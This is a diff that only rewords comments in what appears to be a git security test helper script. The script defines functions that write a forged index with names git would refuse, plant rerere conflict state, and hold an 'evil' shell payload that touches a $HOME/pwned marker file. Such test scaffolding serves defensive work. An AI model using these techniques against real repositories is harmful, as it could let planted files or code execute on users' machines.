@@ -1,7 +1,7 @@
-# Writes what git believes without a look into a git directory. $1 says what.
+# Writes files into a git directory that git trusts without checks. $1 names the attack.
 blob() { printf "$1" | git hash-object -w --stdin; }
-# An index with further names, which git itself would refuse. $1 is the index; then follow names,
-# each with its content.
+# Writes an index with further names, which git itself would refuse. $1 is the index. The other
+# arguments are pairs of a name and its content.
 forged() {
     python3 - "$@" <<'END'
 import hashlib, struct, subprocess, sys
@@ -29,7 +29,7 @@ evil="#!/bin/sh
 touch $HOME/pwned
 "
 hash=0123456789012345678901234567890123456789
-# Lets the rerere of the git directory $1 take the file $2 as one with a conflict.
+# Makes `git rerere` in the git directory $1 treat the file $2 as one with a conflict.
 conflict() {
     mkdir -p ".git/rr-cache/$hash" && : >".git/rr-cache/$hash/preimage"
     printf '%s\t%s\0' "$hash" "$2" >"$1/MERGE_RR"
